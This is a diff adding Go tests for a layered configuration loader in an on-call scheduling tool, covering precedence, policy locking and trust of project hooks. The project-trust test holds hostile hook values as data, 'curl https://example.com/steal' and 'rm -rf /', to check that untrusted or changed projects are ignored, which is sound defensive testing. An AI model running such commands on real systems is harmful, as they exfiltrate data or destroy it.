@@ -0,0 +1,342 @@
+package config
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+	"time"
+)
+
+func testWriteFile(t *testing.T, dir, name, content string) string {
+	path := filepath.Join(dir, name)
+	if err := ioutil.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal("WriteFile failed:", err)
+	}
+	return path
+}
+
+func TestLayered(t *testing.T) {
+	dir, err := ioutil.TempDir("", "config")
+	if err != nil {
+		t.Fatal("TempDir failed:", err)
+	}
+	defer os.RemoveAll(dir)
+
+	system := testWriteFile(t, dir, "system.json", `{
+  "working": "30m",
+  "notify": {"slack": [{"url": "https://hooks.slack.com/services/org"}]}
+}`)
+	project := testWriteFile(t, dir, "project.json", `{
+  "schedule_id": "PI3DH03",
+  "working": "2h",
+  "hooks": {"post_start": "./project-post-start.sh"}
+}`)
+	hash, err := ProjectHash(project)
+	if err != nil {
+		t.Fatal("ProjectHash failed:", err)
+	}
+	user := testWriteFile(t, dir, "user.json", `{
+  "token": "secret",
+  "user": {"Email": "taichi.nakashima@dutyme.com"},
+  "schedule_id": "PI7DH85",
+  "schedule_name": "Dutyme primary",
+  "hooks": {"pre_start": "./user-pre-start.sh", "post_start": "./user-post-start.sh"},
+  "trusted_projects": ["`+hash+`"]
+}`)
+
+	layers := &Layered{}
+	for _, l := range []struct {
+		origin Origin
+		path   string
+	}{
+		{OriginSystem, system},
+		{OriginUser, user},
+		{OriginProject, project},
+		{OriginUser, filepath.Join(dir, "not-exist.json")},
+	} {
+		if err := layers.AddFile(l.origin, l.path); err != nil {
+			t.Fatal("AddFile failed:", err)
+		}
+	}
+
+	err = layers.AddEnv([]string{
+		"DUTYME_REMINDER_BEFORE=5m",
+		"DUTYME_NOTIFY_EMAIL_TO=alice@example.com, bob@example.com",
+		"DUTYME_DEBUG=1",
+		"HOME=/home/taichi",
+	})
+	if err != nil {
+		t.Fatal("AddEnv failed:", err)
+	}
+
+	layers.Set(OriginFlag, "working", "3h")
+
+	c, err := layers.Config()
+	if err != nil {
+		t.Fatal("Config failed:", err)
+	}
+
+	if c.Token != "secret" || c.User == nil || c.User.Email != "taichi.nakashima@dutyme.com" {
+		t.Fatalf("token and user must come from user layer: %#v", c)
+	}
+
+	// Schedule name of user layer doesn't belong to project's schedule.
+	if c.ScheduleID != "PI3DH03" || c.ScheduleName != "" {
+		t.Fatalf("schedule = %q (%q), want PI3DH03 without name", c.ScheduleID, c.ScheduleName)
+	}
+
+	if got, want := time.Duration(c.Working), 3*time.Hour; got != want {
+		t.Fatalf("working = %s, want %s", got, want)
+	}
+
+	if c.Hooks.PreStart != "./user-pre-start.sh" || c.Hooks.PostStart != "./project-post-start.sh" {
+		t.Fatalf("hooks = %#v", c.Hooks)
+	}
+
+	if got, want := time.Duration(c.Reminder.Before), 5*time.Minute; got != want {
+		t.Fatalf("reminder.before = %s, want %s", got, want)
+	}
+
+	if len(c.Notify.Slack) != 1 || len(c.Notify.Email.To) != 2 {
+		t.Fatalf("notify = %#v", c.Notify)
+	}
+
+	cases := []struct {
+		key    string
+		origin Origin
+		path   string
+	}{
+		{"token", OriginUser, user},
+		{"schedule_id", OriginProject, project},
+		{"working", OriginFlag, ""},
+		{"notify.slack", OriginSystem, system},
+		{"notify.email.to", OriginEnv, ""},
+	}
+
+	for _, tc := range cases {
+		v, ok := layers.Origin(tc.key)
+		if !ok {
+			t.Fatalf("%s is not set", tc.key)
+		}
+
+		if v.Origin != tc.origin || v.Path != tc.path {
+			t.Fatalf("origin of %s = %s (%s), want %s (%s)", tc.key, v.Origin, v.Path, tc.origin, tc.path)
+		}
+	}
+}
+
+func TestLayered_systemPolicy(t *testing.T) {
+	dir, err := ioutil.TempDir("", "config")
+	if err != nil {
+		t.Fatal("TempDir failed:", err)
+	}
+	defer os.RemoveAll(dir)
+
+	system := testWriteFile(t, dir, "system.json", `{
+  "policy": {"max_duration": "8h", "hours": "09:00-18:00", "protected": ["PPROD01"]}
+}`)
+
+	cases := []struct {
+		user        string
+		env         []string
+		maxDuration time.Duration
+		hours       string
+		timezone    string
+		protected   []string
+	}{
+		{
+			// User can't loosen the system policy.
+			user:        `{"policy": {"max_duration": "1000h", "hours": "00:00-24:00", "timezone": "Pacific/Kiritimati", "protected": []}}`,
+			maxDuration: 8 * time.Hour,
+			hours:       "09:00-18:00",
+			protected:   []string{"PPROD01"},
+		},
+		{
+			user:        `{"working": "1h"}`,
+			env:         []string{"DUTYME_POLICY_MAX_DURATION=1000h", "DUTYME_POLICY_PROTECTED="},
+			maxDuration: 8 * time.Hour,
+			hours:       "09:00-18:00",
+			protected:   []string{"PPROD01"},
+		},
+		{
+			// Replacing the whole policy object is ignored too.
+			user:        `{"policy": {}}`,
+			maxDuration: 8 * time.Hour,
+			hours:       "09:00-18:00",
+			protected:   []string{"PPROD01"},
+		},
+		{
+			// But it can tighten it.
+			user:        `{"policy": {"max_duration": "2h", "protected": ["PSTG001"]}}`,
+			maxDuration: 2 * time.Hour,
+			hours:       "09:00-18:00",
+			protected:   []string{"PPROD01", "PSTG001"},
+		},
+	}
+
+	for i, tc := range cases {
+		user := testWriteFile(t, dir, "user.json", tc.user)
+
+		layers := &Layered{}
+		for _, path := range []struct {
+			origin Origin
+			path   string
+		}{
+			{OriginSystem, system},
+			{OriginUser, user},
+		} {
+			if err := layers.AddFile(path.origin, path.path); err != nil {
+				t.Fatalf("#%d AddFile failed: %s", i, err)
+			}
+		}
+
+		if err := layers.AddEnv(tc.env); err != nil {
+			t.Fatalf("#%d AddEnv failed: %s", i, err)
+		}
+
+		c, err := layers.Config()
+		if err != nil {
+			t.Fatalf("#%d Config failed: %s", i, err)
+		}
+
+		p := c.Policy
+		if p == nil {
+			t.Fatalf("#%d policy is dropped", i)
+		}
+
+		if got := time.Duration(p.MaxDuration); got != tc.maxDuration {
+			t.Fatalf("#%d max_duration = %s, want %s", i, got, tc.maxDuration)
+		}
+
+		if p.Hours != tc.hours || p.Timezone != tc.timezone {
+			t.Fatalf("#%d hours = %q (%q), want %q (%q)", i, p.Hours, p.Timezone, tc.hours, tc.timezone)
+		}
+
+		if !reflect.DeepEqual(p.Protected, tc.protected) {
+			t.Fatalf("#%d protected = %v, want %v", i, p.Protected, tc.protected)
+		}
+	}
+}
+
+func TestLayered_projectSecrets(t *testing.T) {
+	dir, err := ioutil.TempDir("", "config")
+	if err != nil {
+		t.Fatal("TempDir failed:", err)
+	}
+	defer os.RemoveAll(dir)
+
+	path := testWriteFile(t, dir, ProjectName, `{"token": "secret", "schedule_id": "PI7DH85"}`)
+	if err := (&Layered{}).AddFile(OriginProject, path); err == nil {
+		t.Fatal("expects to fail when project configuration contains token")
+	}
+}
+
+func TestLayered_projectTrust(t *testing.T) {
+	dir, err := ioutil.TempDir("", "config")
+	if err != nil {
+		t.Fatal("TempDir failed:", err)
+	}
+	defer os.RemoveAll(dir)
+
+	user := filepath.Join(dir, "user.json")
+	project := testWriteFile(t, dir, ProjectName, `{
+  "schedule_id": "PI3DH03",
+  "hooks": {"post_start": "curl https://example.com/steal"},
+  "reminder": {"before": "5m", "command": "./remind.sh"},
+  "presets": {"deploy": {"working": "1h", "notify": {"slack": [{"url": "https://hooks.slack.com/services/x"}]}}}
+}`)
+
+	load := func() (*Layered, *Config) {
+		layers := &Layered{}
+		for _, l := range []struct {
+			origin Origin
+			path   string
+		}{
+			{OriginUser, user},
+			{OriginProject, project},
+		} {
+			if err := layers.AddFile(l.origin, l.path); err != nil {
+				t.Fatal("AddFile failed:", err)
+			}
+		}
+
+		cfg, err := layers.Config()
+		if err != nil {
+			t.Fatal("Config failed:", err)
+		}
+		return layers, cfg
+	}
+
+	layers, cfg := load()
+	path, ignored := layers.Untrusted()
+	if path != project {
+		t.Fatalf("untrusted = %q, want %q", path, project)
+	}
+
+	want := []string{"hooks.post_start", "presets.deploy.notify.slack", "reminder.command"}
+	if !reflect.DeepEqual(ignored, want) {
+		t.Fatalf("ignored = %v, want %v", ignored, want)
+	}
+
+	if cfg.Hooks != nil || cfg.Reminder.Command != "" || cfg.Presets["deploy"].Notify != nil {
+		t.Fatalf("commands of untrusted project are honored: %#v", cfg)
+	}
+
+	if cfg.ScheduleID != "PI3DH03" || time.Duration(cfg.Reminder.Before) != 5*time.Minute {
+		t.Fatalf("settings of untrusted project are not honored: %#v", cfg)
+	}
+
+	if err := TrustProject(user, project); err != nil {
+		t.Fatal("TrustProject failed:", err)
+	}
+
+	layers, cfg = load()
+	if _, ignored := layers.Untrusted(); len(ignored) != 0 {
+		t.Fatalf("ignored = %v, want none", ignored)
+	}
+
+	if cfg.Hooks == nil || cfg.Hooks.PostStart != "curl https://example.com/steal" {
+		t.Fatalf("hooks of trusted project are not honored: %#v", cfg.Hooks)
+	}
+
+	// Changing the file requires trusting it again.
+	testWriteFile(t, dir, ProjectName, `{"hooks": {"post_start": "rm -rf /"}}`)
+	if _, cfg := load(); cfg.Hooks != nil {
+		t.Fatalf("hooks of changed project are honored: %#v", cfg.Hooks)
+	}
+
+	// Project can't trust itself.
+	testWriteFile(t, dir, ProjectName, `{"trusted_projects": ["sha256:0000"]}`)
+	if err := (&Layered{}).AddFile(OriginProject, project); err == nil {
+		t.Fatal("expects to fail when project configuration contains trusted_projects")
+	}
+}
+
+func TestLayered_invalidEnv(t *testing.T) {
+	if err := (&Layered{}).AddEnv([]string{"DUTYME_WORKING=two hours"}); err == nil {
+		t.Fatal("expects to fail with invalid duration")
+	}
+}
+
+func TestLayered_emptyEnv(t *testing.T) {
+	layers := &Layered{}
+	if err := layers.AddEnv([]string{"DUTYME_SCHEDULE_ID=", "DUTYME_WORKING="}); err != nil {
+		t.Fatal("AddEnv failed:", err)
+	}
+
+	if values := layers.Values(); len(values) != 0 {
+		t.Fatalf("values = %v, want none", values)
+	}
+}
+
+func TestEnvName(t *testing.T) {
+	if got, want := EnvName("auto_extend.max"), "DUTYME_AUTO_EXTEND_MAX"; got != want {
+		t.Fatalf("EnvName = %q, want %q", got, want)
+	}
+
+	if _, ok := envKeys["DUTYME_HOOKS_ON_EXPIRE_SOON"]; !ok {
+		t.Fatal("env var of hooks.on_expire_soon is not known")
+	}
+}